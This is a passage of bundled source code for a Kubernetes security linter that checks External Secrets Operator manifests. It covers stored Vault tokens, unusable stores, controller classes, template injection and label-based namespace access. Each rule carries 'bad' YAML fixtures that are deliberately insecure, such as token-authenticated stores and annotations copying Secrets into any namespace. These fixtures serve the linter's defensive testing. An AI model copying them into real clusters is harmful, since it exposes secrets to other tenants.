kind: VaultDynamicSecret
metadata: { name: database, namespace: shop }
spec:
  path: database/creds/shop
  provider:
    server: https://vault.example.com
    auth:
      tokenSecretRef: { name: vault-token } # finding: stored token
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: database }
spec:
  kind: VaultDynamicSecret
  generator:
    vaultDynamicSecretSpec:
      path: database/creds/shop
      provider:
        server: https://vault.example.com
        auth:
          tokenSecretRef: { name: vault-token, namespace: eso } # finding: Secret eso/vault-token
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      path: shop
      auth: { kubernetes: { role: shop, serviceAccountRef: { name: shop, audiences: [vault] } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: bao, namespace: shop }
spec:
  provider:
    openBao:
      server: https://bao.example.com
      auth: { appRole: { roleId: shop, secretRef: { name: bao, key: id } } }
---
# Tokens of other providers are other rules' business, and what is filled in later is unknown.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: doppler, namespace: shop }
spec:
  provider:
    doppler: { auth: { secretRef: { dopplerToken: { name: doppler } } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        tokenSecretRef: \${VAULT_TOKEN_REF}
`
  ],
  *check(manifest) {
    const connected = connectedOf(manifest);
    if (!connected) return;
    for (const use of storedCredentials(connected).filter(({ credential }) => credential.form === "vault token")) {
      const instead = use.credential.instead ?? "an AppRole whose secret id is replaced periodically";
      yield { path: use.path, message: `${storedCredential(connected, use)}; use ${instead}` };
    }
  }
});

// src/rules/store-not-usable-here.ts
var store_not_usable_here_default = defineRule({
  id: "store-not-usable-here",
  title: "A request refers to a store that it cannot use",
  severities: ["medium"],
  kinds: [...FETCHING_KINDS, ...PUSHING_KINDS],
  needs: ["complete"],
  why: "The Secret is never made or goes stale, and what waits for it starts with the old one or not at all. The next person in a hurry widens the conditions of the store for it; and a store of the missing name can be made by whoever may create stores in the namespace, who then decides what the Secret holds.",
  remedy: "Correct `name` and `kind` of the reference (the kind is SecretStore where none is given), or use a store that is meant for this namespace. Ask the owner of the ClusterSecretStore before its `spec.conditions` are widened.",
  references: [
    "https://external-secrets.io/latest/api/externalsecret/",
    "https://external-secrets.io/latest/api/clustersecretstore/"
  ],
  guide: ["NI1", "NI2"],
  bad: [
    `
# config: { clusters: { default: { complete: true } } }
# A store that no label finds, and one that is in no namespace.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: labelled, labels: { team: web } }
spec:
  provider: { vault: { server: "https://vault.example.com" } }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: shop }
spec:
  secretStoreRefs:
    - kind: ClusterSecretStore # finding: there is no ClusterSecretStore with these labels
      labelSelector: { matchLabels: { team: shop } }
    - kind: ClusterSecretStore
      name: vault # finding: there is no ClusterSecretStore vault
  selector: { secret: { name: token } }
`,
    `
# config: { clusters: { default: { complete: true } } }
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  conditions: [{ namespaces: [web] }]
  provider: { vault: { server: "https://vault.example.com" } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: web }
spec:
  provider: { vault: { server: "https://vault.example.com" } }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec:
  secretStoreRef:
    kind: ClusterSecretStore
    name: vault # finding: ClusterSecretStore vault does not admit namespace shop
  data:
    - { secretKey: a, remoteRef: { key: a } }
    - secretKey: b
      remoteRef: { key: b }
      sourceRef:
        storeRef:
          name: own # finding: there is no SecretStore own in namespace shop
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: backup, namespace: shop }
spec:
  secretStoreRefs:
    - name: vault # finding: there is no SecretStore vault in namespace shop
    - labelSelector: { matchLabels: { use: backup } } # finding: there is no SecretStore with these labels in namespace shop
  selector: { secret: { name: database } }
---
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: everywhere }
spec:
  namespaces: [shop, web, api]
  externalSecretSpec:
    secretStoreRef:
      kind: ClusterSecretStore
      name: vault # finding: ClusterSecretStore vault does not admit namespaces shop, api
    dataFrom: [{ extract: { key: a } }]
---
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: missing }
spec:
  namespaces: [shop]
  externalSecretSpec:
    secretStoreRef:
      kind: ClusterSecretStore
      name: gone # finding: there is no ClusterSecretStore gone
    dataFrom: [{ extract: { key: a } }]
`
  ],
  good: [
    `
# config: { clusters: { default: { complete: true } } }
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  conditions: [{ namespaces: [web], namespaceSelector: { matchLabels: { vault: "yes" } } }]
  provider: { vault: { server: "https://vault.example.com" } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: web, labels: { use: backup } }
spec:
  provider: { vault: { server: "https://vault.example.com" } }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: web }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: vault }
  data: [{ secretKey: b, remoteRef: { key: b }, sourceRef: { storeRef: { name: own } } }]
---
# The labels of this namespace are not known.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: vault }
  data: [{ secretKey: b, remoteRef: { key: b } }]
---
# A store that no entry uses, and a generator.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: generated, namespace: shop }
spec:
  secretStoreRef: { name: unused }
  dataFrom: [{ sourceRef: { generatorRef: { kind: Password, name: password } } }]
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: backup, namespace: web }
spec:
  secretStoreRefs: [{ labelSelector: { matchLabels: { use: backup } } }, { name: "\${STORE}" }]
`,
    `
# config: { clusters: { default: { complete: true } } }
# The store's name, or the namespace, is filled in later.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: "\${STORE}", namespace: shop }
spec:
  provider: { vault: { server: "https://vault.example.com" } }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec:
  secretStoreRef: { name: vault }
  data: [{ secretKey: b, remoteRef: { key: b } }]
`,
    `
# config: { clusters: { default: { complete: true } } }
# Of two environments one admits the namespace, and labels or names that are filled in later may be the right ones.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  conditions: [{ namespaces: [web] }]
  provider: { vault: { server: "https://vault.example.com" } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault, labels: { team: "\${TEAM}" } }
spec:
  conditions: [{ namespaces: [shop] }]
  provider: { vault: { server: "https://vault.example.com" } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: plain }
spec:
  provider: { vault: { server: "https://vault.example.com" } }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: vault }
  data: [{ secretKey: b, remoteRef: { key: b } }]
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: shop }
spec:
  secretStoreRefs:
    - { kind: ClusterSecretStore, labelSelector: { matchLabels: { team: shop } } }
    - { kind: ClusterSecretStore, labelSelector: { matchLabels: { team: "\${TEAM}" } } }
  selector: { secret: { name: token } }
`
  ],
  *check(manifest, world) {
    for (const reference of referencesOf(manifest).stores) {
      const { kind, name, selector, path } = reference;
      if (kind === void 0 || !isSettled(selector) || name === void 0 && selector === void 0) continue;
      const stores = storesOf(reference, world);
      const node = selector === void 0 ? [...path, "name"] : path;
      if (stores.length === 0) yield* missing(reference, kind, world, node);
      else if (selector === void 0) yield* excluded(manifest, stores, world, node);
    }
  }
});
function* missing({ name, namespace }, kind, world, path) {
  const mayBecomeIt = (store) => isPlaceholder(store.name) || name === void 0 && !isSettled(store.get("metadata", "labels"));
  if (world.of(`${ESO_GROUP}/${kind}`).some(mayBecomeIt)) return;
  const where = kind === "SecretStore" && namespace !== void 0 ? ` in namespace ${namespace}` : "";
  yield { path, message: `there is no ${kind} ${name ?? "with these labels"}${where}` };
}
function* excluded(manifest, stores, world, path) {
  const [store] = stores;
  if (store?.kind !== "ClusterSecretStore") return;
  const out = targetNamespaces(manifest, world).map(({ name }) => name).filter((name) => stores.every((one) => admits(one, namespaceFacts(name, world)) === "no"));
  if (out.length === 0) return;
  yield {
    path,
    message: `ClusterSecretStore ${store.name} does not admit namespace${out.length > 1 ? "s" : ""} ${out.join(", ")}`,
    related: stores.map((one) => ({ manifest: one, path: ["spec", "conditions"], message: "who may use the store" }))
  };
}

// src/rules/store-open-to-every-controller.ts
var store_open_to_every_controller_default = defineRule({
  id: "store-open-to-every-controller",
  title: "A store says not which controller it is for",
  severities: ["medium"],
  kinds: STORE_KINDS,
  needs: ["install", "stores"],
  why: "Controller classes keep the controllers of several teams apart, but only for stores that name one: a store without `spec.controller` is taken by every controller that sees it, whatever its class. Each then signs in with the credential of this store, and two of them write the same Secrets.",
  remedy: "Set `spec.controller` of the store to the class of the controller that is meant (`controllerClass` in the values of its chart), also where that is `default`. Where a controller watches one namespace only, `scopedRBAC: true` keeps it from the stores of the cluster.",
  references: [
    "https://external-secrets.io/latest/guides/controller-class/",
    "https://external-secrets.io/latest/api/controller-options/"
  ],
  guide: ["RM7"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: team-a }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: [--controller-class=team-a]
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec: # finding: it names no controller, so every one takes it, also Deployment team-a/external-secrets (class team-a)
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: empty, namespace: shop }
spec:
  controller: "" # finding: it names no controller
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
`,
    `
# Two controllers in one file are two controllers of one cluster.
apiVersion: apps/v1
kind: Deployment
metadata: { name: one, namespace: eso }
spec:
  template:
    spec:
      containers: [{ name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: two, namespace: shop }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [--namespace=shop] }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: shop }
spec: # finding: also Deployment eso/one (class default), Deployment shop/two (class default)
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
# Only one of them watches this namespace.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: web }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: team-a }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: [--controller-class=team-a, --namespace=team-a, --enable-cluster-store-reconciler=false]
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: other, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: named, namespace: team-a }
spec:
  controller: team-a
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
# An overlay's patch.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: patch, namespace: team-a }
spec:
  refreshInterval: 60
`,
    `
# One controller, without a class.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [--controller-class=default] }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
`
  ],
  *check(store, world) {
    if (!isWhole(store) || store.get("spec", "controller")) return;
    const watchers = world.eso.installs.flatMap(({ controller }) => watcherOf(controller, store) ?? []);
    if (!watchers.some(({ reach }) => reach.controllerClass !== "default") && !areSeveral(watchers, world)) return;
    const names = watchers.map(({ manifest, reach }) => `${nameOf(manifest)} (class ${reach.controllerClass})`);
    yield {
      path: ["spec", "controller"],
      message: `it names no controller, so every one takes it, also ${names.join(", ")}`,
      related: watchers.map(({ manifest }) => ({ manifest, path: ["spec"], message: "a controller that takes it" }))
    };
  },
  fix({ manifest, path, world }) {
    const watchers = world.eso.installs.flatMap(({ controller }) => watcherOf(controller, manifest ?? void 0) ?? []);
    const [only] = watchers;
    if (!only || watchers.length > 1) return void 0;
    const changes = setting(path, only.reach.controllerClass);
    return world.has("complete") ? safe(changes) : unsafe(OTHERS, changes);
  }
});
var OTHERS = "Is the controller in this set the one that works on this store? Others leave it alone from then on.";
function watcherOf(controller, store) {
  const reach = controller && reachOf2(controller);
  if (!reach || !store) return void 0;
  const isSeen = store.kind === "ClusterSecretStore" ? isOn(flagsOf(controller), "enable-cluster-store-reconciler", true) : reach.namespace === void 0 || reach.namespace === store.namespace;
  return isSeen ? { manifest: controller.pod.manifest, reach } : void 0;
}
var areSeveral = (watchers, world) => watchers.some(
  (one, i) => watchers.slice(i + 1).some(
    (other) => nameOf(one.manifest) !== nameOf(other.manifest) && shareCluster(one.manifest, other.manifest, world) && (one.reach.lease === void 0 || one.reach.lease !== other.reach.lease)
  )
);

// src/rules/store-used-for-read-and-push.ts
var store_used_for_read_and_push_default = defineRule({
  id: "store-used-for-read-and-push",
  title: "One store both fetches secrets and pushes them",
  severities: ["low"],
  kinds: STORE_KINDS,
  why: "Its credential must be allowed to write at the provider, and with it every ExternalSecret author’s store can: whoever gets hold of the credential, or may create a PushSecret, changes what all readers of the provider trust.",
  remedy: "Make two stores, one whose credential only reads and one whose credential only writes below the prefix that is pushed, and let PushSecrets name the second.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://external-secrets.io/latest/guides/pushsecrets/"
  ],
  guide: ["PS2"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec: # finding: ExternalSecret shop/database fetches and PushSecret shop/backup pushes through it, with one credential
  provider:
    vault: { server: https://vault.example.com, auth: { kubernetes: { role: eso } } }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec:
  data:
    - secretKey: password
      remoteRef: { key: database }
      sourceRef: { storeRef: { kind: ClusterSecretStore, name: vault } }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: backup, namespace: shop }
spec:
  secretStoreRefs: [{ kind: ClusterSecretStore, name: vault }]
  selector: { secret: { name: token } }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault: { server: https://vault.example.com, auth: { kubernetes: { role: read } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault-push, namespace: shop }
spec:
  provider:
    vault: { server: https://vault.example.com, auth: { kubernetes: { role: write } } }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: database, namespace: shop }
spec:
  secretStoreRef: { name: vault }
  data: [{ secretKey: password, remoteRef: { key: database } }]
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: backup, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault-push }]
  selector: { secret: { name: token } }
---
# The store of this name in another namespace is another one.
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: backup, namespace: billing }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: token } }
`
  ],
  *check(store, world) {
    const users2 = sureUsersOf(store, world);
    const push = users2.find(({ manifest }) => PUSHING_KINDS.includes(manifest.groupKind));
    const fetch = users2.find(({ manifest }) => FETCHING_KINDS.includes(manifest.groupKind));
    if (!push || !fetch) return;
    yield {
      path: ["spec"],
      message: `${nameOf(fetch.manifest)} fetches and ${nameOf(push.manifest)} pushes through it, with one credential`,
      related: [
        { ...fetch, message: "fetches through the store" },
        { ...push, message: "pushes through the store" }
      ]
    };
  }
});

// src/model/eso/secret-copying.ts
var REFLECTOR = "reflector.v1.k8s.emberstack.com";
var REPLICATOR = "replicator.v1.mittwald.de";
var COPY_ANNOTATIONS = {
  asOf: "2026-11-23",
  list: [
    {
      product: "Reflector",
      key: `${REFLECTOR}/reflection-allowed`,
      when: "true",
      to: { annotation: `${REFLECTOR}/reflection-allowed-namespaces` }
    },
    {
      product: "kubernetes-replicator",
      key: `${REPLICATOR}/replication-allowed`,
      when: "true",
      to: { annotation: `${REPLICATOR}/replication-allowed-namespaces` }
    },
    { product: "kubernetes-replicator", key: `${REPLICATOR}/replicate-to`, when: "given", to: "names" },
    { product: "kubernetes-replicator", key: `${REPLICATOR}/replicate-to-matching`, when: "given", to: "selector" },
    { product: "Config Syncer", key: "kubed.appscode.com/sync", when: "given", to: "selector" }
  ]
};
function copyingOf(annotations) {
  const given = asLabels(annotations);
  return COPY_ANNOTATIONS.list.flatMap(({ product, key, when: when2, to }) => {
    const value = given[key];
    if (value === void 0 || isPlaceholder(value) || when2 === "true" && value !== "true") return [];
    const where = typeof to === "object" ? asText(given[to.annotation]) : value;
    return { product, key, isEverywhere: to === "selector" ? value === "" : takesAll(where ?? "") };
  });
}
var takesAll = (list) => !isPlaceholder(list) && (list.trim() === "" || list.split(",").some((entry) => matchesEverything(entry.trim())));

// src/check/authors.ts
var WRITE_EXTERNAL_SECRETS = {
  group: ESO_GROUP,
  resource: "externalsecrets",
  verbs: ["create", "update", "patch"]
};
var authorsIn = (namespace, world) => strangers(whoCan(WRITE_EXTERNAL_SECRETS, namespace, world.rbac), world);
var authorsSomewhere = (world) => strangers(whoCanSomewhere({ ...WRITE_EXTERNAL_SECRETS, verbs: ["create"] }, world.rbac), world);
function editorsOf(resource, name, namespace, world) {
  const access = { group: "", resource, verbs: ["create", "update", "patch"] };
  const editing = whoCan(access, namespace, world.rbac).filter(
    ({ rule: { resourceNames } }) => resourceNames.length === 0 || resourceNames.includes(name)
  );
  const authors2 = new Set(
    whoCan(WRITE_EXTERNAL_SECRETS, namespace, world.rbac).map(({ grant }) => nameOfSubject(grant.subject))
  );
  return strangers(editing, world).filter(({ subject }) => !authors2.has(nameOfSubject(subject)));
}
var strangers = (rights, world) => [...new Set(rights.filter(({ role }) => role !== void 0).map(({ grant }) => grant))].filter(
  (grant) => isStranger(grant, world)
);

// src/check/template-injection.ts
function* outsideData(manifest, target, world) {
  if (!isSecret(target)) return;
  for (const path of sourcesOf(manifest, target)) {
    const where = asText(manifest.get(...path, "target")) || "Data";
    if (isPlaceholder(where) || where.toLowerCase() === "data") continue;
    const isMetadata = ["annotations", "labels"].includes(where.toLowerCase());
    const isRefused = !isMetadata && runsIn({ until: "2.9.0" }, world) === "no";
    yield {
      path: [...path, "target"],
      message: isMetadata ? `the template writes ${where.toLowerCase()} of the Secret, whose keys whoever fills the store can choose` : `the template writes into ${where} of the Secret, outside its data${isRefused ? "; the operator in the set refuses it" : ""}`,
      ...isRefused && { severity: "low" }
    };
  }
}
function* foreignTemplates(manifest, target, world) {
  for (const path of sourcesOf(manifest, target))
    for (const { field, resource, kind } of TEMPLATE_SOURCES) {
      const name = asText(manifest.get(...path, field, "name"));
      if (name === void 0 || isPlaceholder(name)) continue;
      for (const namespace of targetNamespaces(manifest, world)) {
        const editors = editorsOf(resource, name, namespace.name, world);
        if (editors.length > 0)
          yield {
            path: [...path, field, "name"],
            discriminator: namespace.name,
            message: `the template stands in ${kind} ${namespace.name}/${name}, which ${holders(editors)} can change`,
            related: bindingsOf(editors)
          };
      }
    }
}
var TEMPLATE_SOURCES = [
  { field: "configMap", resource: "configmaps", kind: "ConfigMap" },
  { field: "secret", resource: "secrets", kind: "Secret" }
];
var sourcesOf = (manifest, { path }) => asList(manifest.get(...path, "template", "templateFrom")).map((_, i) => [...path, "template", "templateFrom", i]);
function* metadataEffects(manifest, target, world) {
  const metadata = metadataPath(manifest, target);
  for (const { product, key, isEverywhere } of copyingOf(manifest.get(...metadata, "annotations")))
    yield {
      path: [...metadata, "annotations", key],
      message: isEverywhere ? `${product} copies the Secret into any namespace` : `${product} copies the Secret into other namespaces`,
      ...!isEverywhere && { severity: "low" }
    };
  if (metadata.includes("template") && asList(manifest.get(...metadata, "finalizers")).length > 0)
    yield {
      path: [...metadata, "finalizers"],
      message: "the finalizers keep the Secret until somebody removes them by hand"
    };
  yield* argoSecrets(manifest, [...metadata, "labels"], world);
}
var ARGO_LABEL = "argocd.argoproj.io/secret-type";
function* argoSecrets(manifest, labels, world) {
  const type = asText(valueAt(manifest.get(...labels), [ARGO_LABEL]));
  if (type === void 0 || isPlaceholder(type)) return;
  for (const { name } of targetNamespaces(manifest, world)) {
    const authors2 = authorsIn(name, world);
    if (authors2.length > 0)
      yield {
        path: [...labels, ARGO_LABEL],
        severity: "low",
        discriminator: name,
        message: `Argo CD takes the Secret for a ${type}, and ${holders(authors2)} can write ExternalSecrets in namespace ${name}`,
        related: bindingsOf(authors2)
      };
  }
}
function metadataPath(manifest, { path }) {
  if (asMapping(manifest.get(...path, "template"))) return [...path, "template", "metadata"];
  return manifest.kind === "ClusterExternalSecret" ? ["spec", "externalSecretMetadata"] : ["metadata"];
}

// src/rules/template-injection.ts
var template_injection_default = defineRule({
  id: "template-injection",
  title: "A template does more than fill the data of its Secret",
  severities: ["medium", "low"],
  kinds: FETCHING_KINDS,
  why: "What stands in a Secret beside its data makes Kubernetes and other controllers act: a type, an owner or a finalizer, an annotation that copies the Secret into other namespaces, a label that makes it a cluster of Argo CD. A template that others write puts secret values where its author reads them.",
  remedy: "Write the template literally under `target.template.data`, leave `templateFrom[].target` out, and make one ExternalSecret per namespace instead of copies. External Secrets Operator 2.9.0 and newer refuses targets other than data, labels and annotations.",
  references: [
    "https://external-secrets.io/latest/guides/templating/",
    "https://external-secrets.io/latest/guides/threat-model/"
  ],
  guide: ["AC3"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: owner, namespace: shop }
spec:
  target:
    template:
      metadata:
        finalizers: [example.com/keep] # finding: the finalizers keep the Secret until somebody removes them by hand
      templateFrom:
        - target: metadata.ownerReferences # finding: the template writes into metadata.ownerReferences of the Secret, outside its data
          literal: "{{ .owners }}"
        - target: Annotations # finding: the template writes annotations of the Secret, whose keys whoever fills the store can choose
          literal: "{{ .annotations }}"
  dataFrom: [{ extract: { key: shop } }]
`,
    `
# This operator refuses the target.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: type, namespace: shop }
spec:
  target:
    template:
      templateFrom:
        - target: type # finding[low]: the template writes into type of the Secret, outside its data; the operator in the set refuses it
          literal: kubernetes.io/service-account-token
  dataFrom: [{ extract: { key: shop } }]
`,
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: wildcard, namespace: certificates }
spec:
  target:
    template:
      metadata:
        annotations:
          reflector.v1.k8s.emberstack.com/reflection-allowed: "true" # finding: Reflector copies the Secret into any namespace
  dataFrom: [{ extract: { key: wildcard } }]
---
# Without a template, the Secret has the annotations of its ExternalSecret.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: registry
  namespace: shop
  annotations:
    replicator.v1.mittwald.de/replicate-to: shop-test,shop-demo # finding[low]: kubernetes-replicator copies the Secret into other namespaces
spec:
  dataFrom: [{ extract: { key: registry } }]
---
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: registry }
spec:
  externalSecretMetadata:
    annotations:
      kubed.appscode.com/sync: "" # finding: Config Syncer copies the Secret into any namespace
  externalSecretSpec:
    dataFrom: [{ extract: { key: registry } }]
`,
    `
# Who writes ConfigMaps writes the template; who writes ExternalSecrets makes clusters of Argo CD.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: cluster, namespace: argocd }
spec:
  target:
    template:
      metadata:
        labels:
          argocd.argoproj.io/secret-type: cluster # finding[low]: Argo CD takes the Secret for a cluster, and Group developers (in namespace argocd) can write ExternalSecrets in namespace argocd
      templateFrom:
        - configMap:
            name: cluster-template # finding: the template stands in ConfigMap argocd/cluster-template, which Group writers (in all namespaces) can change
            items: [{ key: config }]
  dataFrom: [{ extract: { key: cluster } }]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: developer, namespace: argocd }
rules:
  - { apiGroups: [external-secrets.io], resources: [externalsecrets], verbs: [create, patch] }
  - { apiGroups: [""], resources: [configmaps], verbs: [update] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developer, namespace: argocd }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: developer }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: writer }
rules:
  - { apiGroups: [""], resources: [configmaps], verbs: [create, update] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: writer }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: writer }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: Group, name: writers }]
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: usual
  namespace: shop
  annotations: { reflector.v1.k8s.emberstack.com/reflection-allowed: "true" } # the template has its own
  finalizers: [example.com/keep]
spec:
  target:
    template:
      metadata: { labels: { argocd.argoproj.io/secret-type: repository } }
      templateFrom:
        - literal: "password: {{ .password }}"
        - target: data
          configMap: { name: template, items: [{ key: config }] }
        - target: "\${TARGET}"
          literal: "password: {{ .password }}"
  dataFrom: [{ extract: { key: shop } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: off
  namespace: shop
  annotations: { reflector.v1.k8s.emberstack.com/reflection-allowed: "false", replicator.v1.mittwald.de/replicate-to: "\${NAMESPACES}" }
  finalizers: [example.com/keep]
spec:
  dataFrom: [{ extract: { key: shop } }]
---
# Paths are how a generic target is written.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: application, namespace: shop }
spec:
  target:
    manifest: { apiVersion: argoproj.io/v1alpha1, kind: Application }
    template:
      templateFrom: [{ target: spec.source.helm, literal: "values: {{ .values }}" }]
  dataFrom: [{ extract: { key: shop } }]
---
# Only a ConfigMap of another name, and only in another namespace.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: writer, namespace: shop }
rules:
  - { apiGroups: [""], resources: [configmaps], resourceNames: [other], verbs: [update] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: writer, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: writer }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: Group, name: writers }]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: writer, namespace: billing }
rules:
  - { apiGroups: ["", external-secrets.io], resources: [configmaps, externalsecrets], verbs: [update] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: writer, namespace: billing }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: writer }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: Group, name: writers }]
`
  ],
  *check(manifest, world) {
    const target = targetOf(manifest);
    if (!target) return;
    yield* outsideData(manifest, target, world);
    yield* foreignTemplates(manifest, target, world);
    if (isSecret(target) && target.creationPolicy !== "None") yield* metadataEffects(manifest, target, world);
  }
});

// src/rules/tenant-settable-store-selector.ts
var tenant_settable_store_selector_default = defineRule({
  id: "tenant-settable-store-selector",
  title: "A ClusterSecretStore admits namespaces by a label that others may set",
  severities: ["low"],
  kinds: [`${ESO_GROUP}/ClusterSecretStore`],
  needs: ["stores"],
  why: "Whoever may update a Namespace may label it. Where that is not only the operators of the cluster, a team gives its own namespace the label that the store asks for, and reads what was meant for another.",
  remedy: "Choose namespaces by name (`namespaces`, or the label kubernetes.io/metadata.name, which nobody can change), or take the right to update Namespaces away from everybody but operators; ask whoever hands out namespaces. List operators that are meant to have it under `operators` in the config.",
  references: [
    "https://external-secrets.io/latest/api/clustersecretstore/",
    "https://kubernetes.io/docs/reference/labels-annotations-taints/#kubernetes-io-metadata-name"
  ],
  guide: ["NI2"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: by-team }
spec:
  conditions:
    - namespaceSelector: # finding: it admits namespaces by the label team, and Group developers (in all namespaces) can label a namespace
        matchLabels: { team: shop }
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: labeller }
rules:
